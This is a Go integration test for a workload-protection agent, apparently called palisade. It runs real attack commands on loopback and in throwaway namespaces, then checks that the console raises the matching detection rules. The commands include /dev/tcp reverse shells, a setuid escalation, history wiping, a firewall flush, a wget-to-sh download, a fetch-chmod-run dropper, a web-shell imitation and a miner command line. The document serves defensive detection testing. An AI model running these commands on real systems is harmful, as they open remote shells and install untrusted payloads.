package console_test

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/palisade-cwpp/palisade/internal/agent"
	"github.com/palisade-cwpp/palisade/internal/agent/source/procevents"
	"github.com/palisade-cwpp/palisade/internal/console/api"
	"github.com/palisade-cwpp/palisade/internal/console/store"
)

// lockAudit serialises tests that install audit rules (the kernel has one rule list).
func lockAudit(t *testing.T) {
	t.Helper()
	f, err := os.OpenFile(filepath.Join(os.TempDir(), "palisade-audit-test.lock"), os.O_CREATE|os.O_RDWR, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	if err := syscall.Flock(int(f.Fd()), syscall.LOCK_EX); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
}

// TestBehaviorRealProcesses runs a benign workload and then real attacks on this machine (a
// reverse shell between two network namespaces, a /dev/tcp shell to loopback, a setuid-root
// binary run by nobody, history wiping, a firewall flush inside a namespace, a download piped
// to a shell) and checks what reaches the console: nothing for the workload, the right rule
// for each attack, with the process chain as evidence.
func TestBehaviorRealProcesses(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Fatal("needs root (audit, namespaces, setuid files); CI runs as root")
	}
	lockAudit(t)
	tc := startConsole(t)
	ta := enrollAgent(t, tc)
	ta.behave = &agent.BehaviorConfig{Events: procevents.Config{Watch: []string{}}}
	ta.start()
	host := ta.a.HostID()
	eventually(t, 10*time.Second, "agent online", func() bool { return hostOnline(tc, host) })
	eventually(t, 10*time.Second, "process events running", func() bool {
		var h store.Host
		tc.call("GET", "/api/v1/hosts/"+host, nil, &h)
		for _, c := range h.Status.Components {
			if c.Name == "process-events" && c.State == "running" {
				return true
			}
		}
		return false
	})
	work := t.TempDir()
	if err := os.Chmod(filepath.Dir(work), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(work, 0o755); err != nil {
		t.Fatal(err)
	}
	behaviorEvents := func() []store.Event {
		var page api.Page[store.Event]
		tc.call("GET", "/api/v1/events?category=behavior&limit=200", nil, &page)
		return page.Items
	}

	// A benign workload: a compile, an archive, a repository, pipes, a package build with make
	// and a Go test suite.
	benign := []string{
		`printf 'int main(void){return 0;}\n' > hello.c && cc -O2 -o hello hello.c && ./hello`,
		`mkdir -p tree/a tree/b && echo x > tree/a/f && tar czf tree.tgz tree && tar tzf tree.tgz | wc -l`,
		`git init -q repo && cd repo && git config user.email t@example.com && git config user.name t && echo hi > README && git add README && git commit -qm init && git log --oneline | head -1`,
		`ls -la /etc | grep -c passwd; find /usr/share/doc -maxdepth 2 -name copyright | head -3; sort /etc/hostname | uniq`,
		// A package build with make, and a Go test suite (compiler, linker, vet, test binary).
		`mkdir -p pkg/src && printf 'int add(int a,int b){return a+b;}\n' > pkg/src/add.c && printf 'int add(int,int);\nint main(void){return add(1,1)!=2;}\n' > pkg/src/main.c &&
		 printf 'all: prog\nprog: src/add.o src/main.o\n\t$(CC) -o $@ $^\ncheck: prog\n\t./prog\ninstall: prog\n\tinstall -D -m 0755 prog $(DESTDIR)/bin/prog\n' > pkg/Makefile &&
		 make -s -C pkg check && make -s -C pkg install DESTDIR=$PWD/stage`,
		`mkdir -p gomod && cd gomod && printf 'module example.com/sum\n\ngo 1.22\n' > go.mod && printf 'package sum\n\nfunc Sum(a, b int) int { return a + b }\n' > sum.go &&
		 printf 'package sum\n\nimport "testing"\n\nfunc TestSum(t *testing.T) {\n\tif Sum(1, 2) != 3 {\n\t\tt.Fatal("sum")\n\t}\n}\n' > sum_test.go &&
		 GOFLAGS=-mod=mod GOTOOLCHAIN=local go test -count=1 ./...`,
	}
	for _, script := range benign {
		cmd := exec.Command("/bin/sh", "-c", script)
		cmd.Dir = work
		cmd.Env = append(os.Environ(), "PATH="+os.Getenv("PATH")+":"+filepath.Join(runtime.GOROOT(), "bin"))
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("benign %q: %v: %s", script, err, out)
		}
	}
	time.Sleep(2 * time.Second) // past the source's delay, the spool and a heartbeat
	if evs := behaviorEvents(); len(evs) != 0 {
		for _, e := range evs {
			t.Errorf("benign workload reported: %s %s (%v)", e.RuleID, e.Title, e.Evidence.Lines)
		}
	}

	// 1. A shell whose descriptors are a TCP connection to a listener in another namespace.
	peer := veth(t)
	ln := listenIn(t, peer.nsB, peer.addrB+":4444")
	accepted := make(chan net.Conn, 2)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted <- c
		}
	}()
	shell := exec.Command("ip", "netns", "exec", peer.nsA, "/bin/bash", "-c",
		"exec 3<>/dev/tcp/"+peer.addrB+"/4444; exec /bin/bash -i <&3 >&3 2>&3")
	if err := shell.Start(); err != nil {
		t.Fatal(err)
	}
	defer shell.Process.Kill()
	select {
	case c := <-accepted:
		defer c.Close()
		defer io.WriteString(c, "exit\n")
	case <-time.After(5 * time.Second):
		t.Fatal("the reverse shell did not connect")
	}

	// 2. The one-liner to loopback.
	lo, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer lo.Close()
	go func() {
		if c, err := lo.Accept(); err == nil {
			io.WriteString(c, "exit\n")
			time.Sleep(time.Second)
			c.Close()
		}
	}()
	port := lo.Addr().(*net.TCPAddr).Port
	oneLiner := exec.Command("/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
	if err := oneLiner.Start(); err != nil {
		t.Fatal(err)
	}
	go oneLiner.Wait()

	// 3. A setuid-root copy of id(1) run by nobody from an unprivileged shell.
	suid := filepath.Join(work, "helper")
	idBin, err := os.ReadFile("/usr/bin/id")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(suid, idBin, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(suid, 0o755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	asNobody := exec.Command("/bin/sh", "-c", suid+" -u")
	asNobody.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	asNobody.Dir = "/"
	if out, err := asNobody.CombinedOutput(); err != nil || strings.TrimSpace(string(out)) != "0" {
		t.Fatalf("setuid helper: %v: %q (want euid 0)", err, out)
	}

	// 4. High-risk commands, in a throwaway namespace and directory.
	for _, cmd := range []*exec.Cmd{
		exec.Command("/bin/bash", "-c", "history -c; unset HISTFILE; true"),
		exec.Command("ip", "netns", "exec", peer.nsA, "iptables", "-F"),
		exec.Command("/bin/sh", "-c", "wget -q -O- http://127.0.0.1:9/x.sh | sh; true"),
	} {
		cmd.Dir = work
		cmd.Run() // the commands' own success does not matter, their execution does
	}

	// 5. A dropper: a binary fetched over HTTP, made executable and run, on one process tree.
	payload, err := os.ReadFile("/usr/bin/true")
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write(payload) }))
	defer srv.Close()
	dropper := exec.Command("/bin/sh", "-c", "wget -q -O ./kworker "+srv.URL+"/k && chmod +x ./kworker && ./kworker")
	dropper.Dir = work
	if out, err := dropper.CombinedOutput(); err != nil {
		t.Fatalf("dropper: %v: %s", err, out)
	}

	// 6. A "web server" (a copy of bash named nginx) running a shell command, as a web shell does
	// (two commands, so that it forks instead of replacing itself).
	nginx := filepath.Join(work, "nginx")
	bash, err := os.ReadFile("/bin/bash")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(nginx, bash, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(nginx, "-c", "/bin/sh -c 'id; uname -a'; true").CombinedOutput(); err != nil {
		t.Fatalf("web shell: %v: %s", err, out)
	}

	// 7. A miner's command line (the program itself is not needed for the rule).
	exec.Command("/bin/sh", "-c", "true xmrig --donate-level 1 -o stratum+tcp://pool.example.org:3333 -u 4Awallet", "miner").Run()

	want := []string{"behavior.reverse-shell-stdio", "behavior.reverse-shell-dev-tcp", "behavior.privesc-unexpected-root",
		"behavior.history-wipe", "behavior.firewall-disabled", "behavior.download-piped-to-shell",
		"behavior.download-chmod-exec", "behavior.web-server-shell", "behavior.miner-stratum-url", "behavior.miner-arguments", "behavior.web-server-recon"}
	var got []store.Event
	waitFor(10*time.Second, func() bool {
		got = behaviorEvents()
		for _, w := range want {
			if !slices.ContainsFunc(got, func(e store.Event) bool { return e.RuleID == w }) {
				return false
			}
		}
		return true
	})
	for _, w := range want {
		if !slices.ContainsFunc(got, func(e store.Event) bool { return e.RuleID == w }) {
			t.Errorf("no %s event", w)
		}
	}
	for _, e := range got {
		t.Logf("%s [%s] %s", e.RuleID, e.Severity, e.Title)
		if !slices.Contains(want, e.RuleID) {
			t.Errorf("unexpected event %s: %s", e.RuleID, e.Title)
		}
		if len(e.Evidence.Process) < 2 {
			t.Errorf("%s: process chain %+v, want the process and its parents", e.RuleID, e.Evidence.Process)
		}
	}
	for _, e := range got {
		if e.RuleID == "behavior.privesc-unexpected-root" {
			p := e.Evidence.Process
			mustf(t, p[0].Exe == suid && p[0].UID == 65534 && p[0].EUID == 0 && p[1].EUID == 65534,
				"privilege escalation evidence: %+v", p)
		}
		if e.RuleID == "behavior.reverse-shell-stdio" {
			mustf(t, strings.Contains(e.Title, peer.addrB+":4444"), "reverse shell title %q names the peer", e.Title)
		}
	}
}

// waitFor polls cond until it holds or within passes.
func waitFor(within time.Duration, cond func() bool) {
	for end := time.Now().Add(within); time.Now().Before(end) && !cond(); {
		time.Sleep(100 * time.Millisecond)
	}
}

// vethPair is two network namespaces of the test's own joined by a veth pair.
type vethPair struct{ nsA, nsB, addrA, addrB string }

func veth(t *testing.T) vethPair {
	t.Helper()
	id := fmt.Sprintf("%d", time.Now().UnixNano()%1e6)
	p := vethPair{nsA: "pal-a-" + id, nsB: "pal-b-" + id, addrA: "10.231.7.1", addrB: "10.231.7.2"}
	run := func(args ...string) {
		if out, err := exec.Command(args[0], args[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%v: %v: %s", args, err, out)
		}
	}
	run("ip", "netns", "add", p.nsA)
	t.Cleanup(func() { exec.Command("ip", "netns", "del", p.nsA).Run() })
	run("ip", "netns", "add", p.nsB)
	t.Cleanup(func() { exec.Command("ip", "netns", "del", p.nsB).Run() })
	run("ip", "-n", p.nsA, "link", "add", "va", "type", "veth", "peer", "name", "vb", "netns", p.nsB)
	run("ip", "-n", p.nsA, "addr", "add", p.addrA+"/30", "dev", "va")
	run("ip", "-n", p.nsB, "addr", "add", p.addrB+"/30", "dev", "vb")
	run("ip", "-n", p.nsA, "link", "set", "va", "up")
	run("ip", "-n", p.nsB, "link", "set", "vb", "up")
	return p
}

// listenIn opens a TCP listener inside a named network namespace: the socket belongs to the
// namespace it was created in, whatever thread later accepts on it.
func listenIn(t *testing.T, ns, addr string) net.Listener {
	t.Helper()
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	orig, err := os.Open("/proc/thread-self/ns/net")
	if err != nil {
		t.Fatal(err)
	}
	defer orig.Close()
	target, err := os.Open("/var/run/netns/" + ns)
	if err != nil {
		t.Fatal(err)
	}
	defer target.Close()
	if err := unix.Setns(int(target.Fd()), unix.CLONE_NEWNET); err != nil {
		t.Fatal(err)
	}
	ln, lerr := net.Listen("tcp", addr)
	if err := unix.Setns(int(orig.Fd()), unix.CLONE_NEWNET); err != nil {
		panic("cannot return to the host network namespace: " + err.Error())
	}
	if lerr != nil {
		t.Fatal(lerr)
	}
	t.Cleanup(func() { ln.Close() })
	return ln
}
